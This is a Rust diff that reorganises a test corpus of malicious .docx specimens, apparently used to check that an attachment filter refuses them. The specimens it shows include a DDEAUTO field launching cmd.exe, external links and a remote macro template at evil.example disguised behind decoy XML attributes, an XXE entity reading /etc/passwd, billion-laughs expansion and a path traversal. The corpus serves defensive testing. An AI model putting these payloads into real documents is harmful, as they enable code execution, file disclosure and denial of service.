@@ -2,7 +2,7 @@
 
 use threadwell_domain::attachment::{ContentRefusal, FileKind};
 
-use super::{Docx, MAIN, OFFICE, document, minimal, relationships, types};
+use super::{Docx, MAIN, document, minimal, parts, relationships, types};
 use crate::corpus::{
     Specimen,
     zip::{Entry, archive},
@@ -17,8 +17,9 @@ pub fn attacks() -> Vec<Specimen> {
     let documents = active()
         .into_iter()
         .chain(leading_out())
-        .chain(disguised())
-        .chain(xml())
+        .chain(parts::disguised())
+        .chain(parts::xml())
+        .chain(parts::wide())
         .chain(names())
         .chain(headers());
     for (name, docx) in documents {
@@ -34,9 +35,11 @@ fn related(kind: &str, target: &str, mode: &str) -> Docx {
     Docx::new().instead("word/_rels/document.xml.rels", &relationships(&[(kind, target, mode)]))
 }
 
-fn part(content: &str) -> Docx {
+pub(super) fn part(content: &str) -> Docx {
     Docx::new().instead("word/document.xml", content)
 }
+
+pub(super) const DDE: &str = "<w:fldSimple w:instr=\" DDE a b\"/>";
 
 fn field(instruction: &str) -> Docx {
     part(&document(instruction))
@@ -66,7 +69,7 @@ fn active() -> Vec<(&'static str, Docx)> {
             "program in a field",
             field("<w:r><w:instrText>DDEAUTO c:\\\\cmd.exe \"/k calc\"</w:instrText></w:r>"),
         ),
-        ("program in a simple field", field("<w:fldSimple w:instr=\" DDE a b\"/>")),
+        ("program in a simple field", field(DDE)),
     ]
 }
 
@@ -92,66 +95,6 @@ fn leading_out() -> Vec<(&'static str, Docx)> {
         ("mode written in numbers", related("image", "https://evil.example/a.png", "&#69;xternal")),
         ("link that says it stays", related("image", "file://evil/share/a.png", "Internal")),
         ("link out of the container", related("image", "../../../etc/passwd", "")),
-    ]
-}
-
-/// Attributes that another may be taken for.
-fn disguised() -> Vec<(&'static str, Docx)> {
-    let template = format!(
-        "Type=\"{OFFICE}/attachedTemplate\" Target=\"https://evil.example/a.dotm\" TargetMode=\"External\""
-    );
-    let lead = |decoy: &str| {
-        let part = format!("<Relationships><Relationship Id=\"r1\" {decoy} {template}/></Relationships>");
-        Docx::new().instead("word/_rels/document.xml.rels", &part)
-    };
-    let macros = MAIN.replace("document.main", "document.macroEnabled.main");
-    let declare = |decoy: &str| {
-        let more = format!("<Override {decoy} PartName=\"/word/a.xml\" ContentType=\"{macros}\"/>");
-        Docx::new().instead("[Content_Types].xml", &types(MAIN, &more))
-    };
-    vec![
-        (
-            "template elsewhere behind prefixes",
-            lead("xmlns:Type=\"a/image\" xmlns:Target=\"media/a.png\" xmlns:TargetMode=\"Internal\""),
-        ),
-        (
-            "template elsewhere behind other attributes",
-            lead("xmlns:x=\"x\" x:Type=\"a/image\" x:Target=\"media/a.png\" x:TargetMode=\"Internal\""),
-        ),
-        (
-            "template elsewhere behind the same attributes",
-            lead("Type=\"a/image\" Target=\"media/a.png\" TargetMode=\"Internal\""),
-        ),
-        ("type with macros behind a prefix", declare("xmlns:ContentType=\"image/png\"")),
-        ("type with macros behind another", declare("xmlns:x=\"x\" x:ContentType=\"image/png\"")),
-    ]
-}
-
-fn xml() -> Vec<(&'static str, Docx)> {
-    let laughs: String =
-        (1..10).map(|n| format!("<!ENTITY l{n} \"{}\">", format!("&l{};", n - 1).repeat(10))).collect();
-    let laughs = format!("<!DOCTYPE d [<!ENTITY l0 \"lol\">{laughs}]>{}", document("&l9;"));
-    let external = format!("<!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>{}", document("&x;"));
-    let wide: Vec<u8> = "\u{feff}<a/>".encode_utf16().flat_map(u16::to_le_bytes).collect();
-    let unmarked: Vec<u8> = "<!DOCTYPE a []><a/>".encode_utf16().flat_map(u16::to_be_bytes).collect();
-    // "<a/>" in the code of mainframes.
-    let foreign = Docx::new().with(Entry::deflated("word/a.dat", b"\x4c\x81\x61\x6e"));
-    let declared = types(MAIN, "<Override PartName=\"/word/a.dat\" ContentType=\"application/xml\"/>");
-    let elsewhere = b"<?xml version='1.0'?><!DOCTYPE d []><d/>";
-    let related = "<!DOCTYPE d [<!ENTITY x 'y'>]><d/>";
-    vec![
-        ("billion laughs", part(&laughs)),
-        ("entity from a file", part(&external)),
-        ("document type", part("<!DOCTYPE d SYSTEM \"https://evil.example/d.dtd\"><d/>")),
-        ("document type in its relationships", Docx::new().instead("_rels/.rels", related)),
-        ("document type in another part", Docx::new().with(Entry::deflated("word/a.dat", elsewhere))),
-        ("unknown entity", part(&document("&unknown;"))),
-        ("other encoding", part("<?xml version=\"1.0\" encoding=\"UTF-7\"?><d/>")),
-        ("wide characters", Docx::new().with(Entry::deflated("word/wide.xml", &wide))),
-        ("wide characters without a mark", Docx::new().with(Entry::deflated("word/a.xml", &unmarked))),
-        ("part that is read as text alone by Word", foreign.instead("[Content_Types].xml", &declared)),
-        ("element without end", part("<w:document><w:body>")),
-        ("depth", part(&"<a>".repeat(200_000))),
     ]
 }
 
